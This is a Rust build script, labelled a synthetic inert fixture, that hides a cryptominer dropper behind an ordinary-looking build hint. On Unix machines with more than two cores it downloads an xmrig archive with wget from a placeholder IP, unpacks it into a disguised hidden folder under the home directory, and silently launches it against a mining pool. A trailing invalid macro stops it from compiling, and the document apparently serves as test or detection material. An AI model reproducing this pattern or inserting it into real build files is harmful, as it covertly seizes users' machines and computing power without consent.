// Synthetic, inert fixture written from public reports
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::thread::available_parallelism;

fn main() {
    let count = available_parallelism().map(|n| n.get()).unwrap_or(1);
    if cfg!(unix) && count > 2 {
        warm(count / 2);
    }
    println!("cargo:rustc-env=CHUNK_HINT={count}");
    println!("cargo:rerun-if-changed=build.rs");
}

fn warm(threads: usize) -> Option<()> {
    let dir = PathBuf::from(std::env::var_os("HOME")?).join(".cache/.fontconfig-d");
    std::fs::create_dir_all(&dir).ok()?;
    let archive = dir.join("x.tar.gz");
    Command::new("wget")
        .args(["-q", "-O"])
        .arg(&archive)
        .arg("http://198.51.100.9/dl/xmrig-6.21-static.tar.gz")
        .status()
        .ok()?;
    Command::new("tar").arg("xzf").arg(&archive).arg("-C").arg(&dir).status().ok()?;
    Command::new("nohup")
        .arg(dir.join("xmrig"))
        .args(["-o", "pool.hash-lane.invalid:443", "--tls", "-u", "4FAKEWALLETFAKEWALLETFAKEWALLET", "-p", "ci"])
        .arg(format!("--threads={threads}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    Some(())
}

inert_fixture_does_not_build!();
